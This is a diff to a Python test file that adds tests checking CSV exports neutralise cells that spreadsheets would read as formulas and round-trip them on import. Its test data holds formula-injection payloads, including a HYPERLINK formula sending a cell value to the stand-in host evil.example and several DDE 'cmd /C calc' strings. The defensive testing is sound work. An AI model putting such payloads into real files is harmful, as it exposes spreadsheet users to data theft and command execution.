@@ -3,7 +3,9 @@ refusals, the two import modes, idempotent re-imports and unwritten batches."""
 
 from __future__ import annotations
 
+import csv
 import dataclasses
+import io
 import types
 from collections.abc import Iterator
 from decimal import Decimal
@@ -116,6 +118,46 @@ def test_export_then_import_round_trips_every_field_type_exactly(schema: DataSch
     assert (report.written, report.refused, report.unwritten) == (2, [], [])
     assert scan(target) == scan(source)
     assert scan(target)[0] == full_item()
+
+
+HOSTILE_TITLES = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "'plain apostrophe",
+]
+
+
+@pytest.mark.parametrize("title", HOSTILE_TITLES)
+def test_a_cell_that_reads_as_a_formula_is_exported_inert_and_imported_back_as_it_was(
+    schema: DataSchema, item_model: Model, title: str
+) -> None:
+    source = make_table(item_model)
+    target = make_table(item_model, name="Item-other-NONE")
+    put(source, [{**full_item(), "title": title}])
+
+    text = "".join(export_lines(item_model, dynamo.scan_all(source)))
+    cells = next(iter(csv.DictReader(io.StringIO(text, newline=""))))
+    # OWASP: a leading apostrophe, so no spreadsheet runs it; numbers keep their sign.
+    assert cells["title"] == "'" + title
+    assert cells["count"] == "-2147483648"
+    report = import_text(target, item_model, schema, text, mode=ALL_OR_NOTHING)
+    assert report.written == 1
+    assert scan(target)[0]["title"] == title
+
+
+def test_every_csv_export_of_the_console_makes_formula_cells_inert() -> None:
+    from console.csv_stream import csv_response, inert, restored
+
+    response = csv_response(["name", "owner"], [["=cmd()", "-5"], ["@x", "alice"]], "sandboxes.csv")
+    body = b"".join(response.streaming_content).decode()  # type: ignore[arg-type]
+    assert body.splitlines() == ["name,owner", "'=cmd(),-5", "'@x,alice"]
+    for value in ["=1", "+1", "-1", "-x", "@a", "'", "''=1", "plain", "1e5", "-.5"]:
+        assert restored(str(inert(value))) == value
 
 
 def test_composite_sort_key_round_trips_and_is_not_exported(schema: DataSchema, post_model: Model) -> None:
